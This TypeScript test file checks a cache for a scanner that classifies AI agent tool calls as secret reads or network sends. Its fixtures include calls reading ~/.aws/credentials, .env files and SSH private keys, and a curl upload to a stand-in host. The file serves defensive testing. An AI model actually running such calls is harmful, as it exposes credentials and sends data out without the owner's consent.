/**
 * Remembered classes of small tool calls (class-memo.ts): a call classified from the memo gets
 * exactly the classes a fresh classification gives, even right after a call that differs from it
 * only in a top-level key, the order of its values, its shape (object or list), one value or the tool
 * name; the key tells all of those apart; large calls are not remembered; one policy's answers are
 * not another's.
 */
import { describe, expect, test } from "bun:test";
import { classifyCall, type CompiledChains } from "../../../../src/engine/scanners/chains/index.ts";
import { classMemoKey, MAX_CLASS_MEMO_CHARS, MAX_CLASS_MEMO_LEAVES } from "../../../../src/engine/scanners/chains/class-memo.ts";
import { chains, defaultChains } from "./fixture.ts";

const classesOf = (compiled: CompiledChains, tool: string, args: unknown) => classifyCall(compiled, tool, args, 0).classes;

/** Pairs of calls that differ in one thing classification reads. */
const lookalikes: Array<[string, [string, unknown], [string, unknown]]> = [
  ["arg_key accepts one key and not the other", ["http_request", { method: "POST", url: "https://drop.example.net/" }], ["http_request", { mode: "POST", url: "https://drop.example.net/" }]],
  ["the same values as a list (no keys: arg_key rules read every value)", ["http_request", { mode: "POST", url: "https://drop.example.net/" }], ["http_request", ["POST", "https://drop.example.net/"]]],
  ["a command-like key leads the joined command line", ["bash", { args: ["~/.aws/credentials"], cmd: "cat" }], ["bash", { args: ["~/.aws/credentials"], note: "cat" }]],
  ["one value differs", ["read_file", { path: "/srv/app/.env" }], ["read_file", { path: "/srv/app/env" }]],
  ["the tool name differs", ["read_file", { path: "/home/dev/.ssh/id_rsa" }], ["write_file", { path: "/home/dev/.ssh/id_rsa" }]],
  ["the same keys and values in another order", ["bash", { a: "cat", b: "~/.aws/credentials" }], ["bash", { b: "~/.aws/credentials", a: "cat" }]],
  ["an object whose one key is empty, and a list", ["http_request", { "": "POST" }], ["http_request", ["POST"]]],
  ["values split differently across keys", ["bash", { command: "curl", args: "-d @/tmp/a https://drop.example.net/" }], ["bash", { command: "curl -d @/tmp/a", args: "https://drop.example.net/" }]],
  ["a number rendered as text", ["bash", { command: "chmod", mode: 755 }], ["bash", { command: "chmod", mode: "+x" }]],
];

describe("classes from the memo are the classes a fresh classification gives", () => {
  for (const [name, first, second] of lookalikes) {
    test(name, () => {
      const expected = [first, second].map(([tool, args]) => classesOf(chains(), tool, args));
      // One compiled policy, each call classified after the other (and again): the memo answers the repeats.
      const shared = chains();
      for (let round = 0; round < 3; round++) {
        expect(classesOf(shared, ...first)).toEqual(expected[0]!);
        expect(classesOf(shared, ...second)).toEqual(expected[1]!);
      }
    });
  }

  test("the pairs above are told apart by classification itself (the cases mean something)", () => {
    const differing = lookalikes.filter(([, [t1, a1], [t2, a2]]) => JSON.stringify(classesOf(chains(), t1, a1)) !== JSON.stringify(classesOf(chains(), t2, a2)));
    expect(differing.length).toBeGreaterThanOrEqual(7);
  });

  test("the memo key tells every pair apart", () => {
    for (const [, [t1, a1], [t2, a2]] of lookalikes) expect(classMemoKey(t1, a1)).not.toBe(classMemoKey(t2, a2));
  });

  test("an answer is never handed out as a shared, mutable array", () => {
    const compiled = chains();
    const first = classesOf(compiled, "read_file", { path: "/srv/app/.env" });
    const again = classesOf(compiled, "read_file", { path: "/srv/app/.env" });
    expect(again).toEqual(["secret_read"]);
    for (const answer of [first, again]) expect(Object.isFrozen(answer)).toBe(true);
  });
});

describe("bounds and scope", () => {
  test("calls with many leaves or long values are not remembered (and still classified)", () => {
    const many = { files: Array.from({ length: MAX_CLASS_MEMO_LEAVES + 1 }, (_, i) => `/tmp/f${i}`) };
    const long = { command: `cat ~/.aws/credentials ${"x".repeat(MAX_CLASS_MEMO_CHARS)}` };
    expect(classMemoKey("bash", many)).toBeUndefined();
    expect(classMemoKey("bash", long)).toBeUndefined();
    expect(classesOf(defaultChains, "bash", long)).toContain("secret_read");
  });

  test("one compiled policy's answers are not another's", () => {
    const call: [string, unknown] = ["my_uploader", { target: "https://drop.example.net/" }];
    expect(classesOf(defaultChains, ...call)).toEqual([]);
    const categorised = chains({ toolCategories: { my_uploader: "network_send" } });
    expect(classesOf(categorised, ...call)).toContain("network_send");
    expect(classesOf(defaultChains, ...call)).toEqual([]);
  });
});
